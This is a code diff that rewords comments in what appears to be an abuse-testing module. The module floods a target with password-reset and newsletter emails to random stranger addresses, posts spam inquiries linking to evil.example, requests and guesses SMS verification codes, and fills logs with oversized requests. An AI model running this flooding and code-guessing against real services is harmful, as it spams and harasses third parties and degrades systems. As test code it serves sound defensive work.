@@ -11,24 +11,24 @@ import {
   type Target,
 } from './send.js';
 
-/** What he wants a stranger to read. */
+/** Text that the attacker wants to send to strangers. */
 export const evilWords = 'Win at https://evil.example now. ';
 
 const stranger = () => `stranger-${any()}@example.com`;
 
-/** Mails to strangers by every call that sends one, and inquiries under a stranger's address. */
+/** Causes mails to strangers through every route that sends one, and inquiries under a stranger's address. */
 export async function mailFlood(target: Target) {
   const lost = () => send(target, post('/api/api/forgot-password', { email: stranger() }), 3000);
   const news = () => send(target, post('/api/api/subscribe', { email: stranger() }), 3000);
   await Promise.all([
     again(lengthMs / 100, 100, lost),
     again(lengthMs / 100, 100, news),
-    // He may be refused before he has an account.
+    // Registration may be rejected.
     submitMany(target, 40).catch(() => undefined),
   ]);
 }
 
-/** Inquiries full of his words, by an account with the address of somebody else; tells what became of them. */
+/** Submits inquiries with the attacker's text from an account with a stranger's address; returns the statuses. */
 export async function submitMany({ url }: Target, times: number) {
   const { email, uid, send: call } = await newCustomer(url, anyAddress());
   const all = (await call('GET', '/api/api/all')).json() as { _id: string }[];
@@ -41,7 +41,7 @@ export async function submitMany({ url }: Target, times: number) {
   return { email, statuses };
 }
 
-/** Codes to numbers of strangers, and guesses at them. */
+/** Requests codes for strangers' numbers, and guesses them. */
 export async function codeFlood(target: Target) {
   await again(lengthMs / 40, 40, () => {
     const phone = anyNumber();
@@ -52,7 +52,7 @@ export async function codeFlood(target: Target) {
 
 const report = { 'csp-report': { 'violated-directive': 'script-src', 'blocked-uri': 'inline' } };
 
-/** Whatever somebody writes down: long addresses, reports, things that are no requests. */
+/** Sends everything that is logged: long addresses, reports, invalid requests. */
 export async function logFlood(target: Target) {
   await again(lengthMs / 10, 10, () => {
     send(target, get(`/api/${'x'.repeat(14_000)}`), 1000);
